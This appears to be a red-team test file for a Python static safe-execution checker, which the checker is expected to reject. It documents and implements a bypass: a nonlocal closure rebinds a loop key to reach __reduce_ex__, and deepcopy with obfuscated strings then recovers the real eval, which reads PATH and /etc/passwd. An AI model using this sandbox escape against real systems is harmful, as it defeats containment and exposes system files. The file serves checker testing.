# expect: reject builtin
# why: twenty-third red team, round e: a judged loop target (literal names, a module-level tuple, **kwargs keys) rebound while the body runs by a closure declaring it nonlocal (called in the body or by the library): a name declared global or nonlocal anywhere is no judged source
# line: 31
# goal: the REAL builtin `eval` as a value; prints os.environ['PATH'] and the first line of
#   /etc/passwd through it.
# mechanism: as ok_01, on the **kwargs-key judged source (87d561a): `for k, v in kw.items():`
#   in a method whose **kw is read only, every keyword of the program written (keywords_written
#   holds: no Thread/partial/handle/...); the loop body calls a closure that does
#   `nonlocal k; k = "__reduce_ex__"` before setattr(self, k, v).
# rule slipped: builtin (names.c kwargs_key): like loop_over_plain_names it checks that k is
#   "bound nowhere else in the loop's body" by a census of the body only
#   (wk_take_census_many(body, &name) -> c.other == 0); the nonlocal rebinding stands in a
#   nested def outside the loop and is only CALLED in the body.
# verify: safe-exec-check rc=0; python3 prints <built-in function eval>, the PATH, root:x:0:0...
import copy
import typing


def red(proto):
    return (typing.Literal.__getitem__, ("eval",), {"_name": "--builtins--".replace("-", "_")})


class Opts:
    def set(self, **kw):
        def swap():
            nonlocal k
            k = "--reduce-ex--".replace("-", "_")

        for k, v in kw.items():
            swap()
            setattr(self, k, v)


o = Opts()
o.set(plain=red)
ev = copy.deepcopy(copy.deepcopy(o))
print(ev)
print(ev("__import__('os').environ['PATH']"))
print(ev("open('/etc/passwd').read()").splitlines()[0])
